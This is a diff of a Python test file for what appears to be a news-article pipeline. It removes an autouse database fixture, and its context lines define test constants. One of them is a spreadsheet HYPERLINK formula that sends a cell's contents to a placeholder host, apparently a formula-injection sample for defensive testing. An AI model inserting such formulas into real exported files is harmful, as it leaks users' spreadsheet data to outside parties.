@@ -28,13 +28,6 @@ from pipelines.stores.rows import Rows
 from tests.feeds.town import HOSTILE, address, gone, told
 from tests.samples import NOON, PORTAL, article, capture
 
-
-@pytest.fixture(autouse=True)
-def nobody_else_writes(monkeypatch: pytest.MonkeyPatch) -> None:
-    """The server is shared with other tests, whose open transactions would delay what is listed."""
-    monkeypatch.setattr("pipelines.stores.library.SETTLED", sa.true())
-
-
 OTHER = replace(PORTAL, name="test_qingjiang", title="清江新闻网", home="https://www.qingjiang.example/")
 EDIT = ("本报讯 云岭县图书馆新馆20日上午开放，首日接待读者1350人次。", *article().paragraphs[1:])
 FORMULA = '=HYPERLINK("https://x.example?"&A1,"看")'
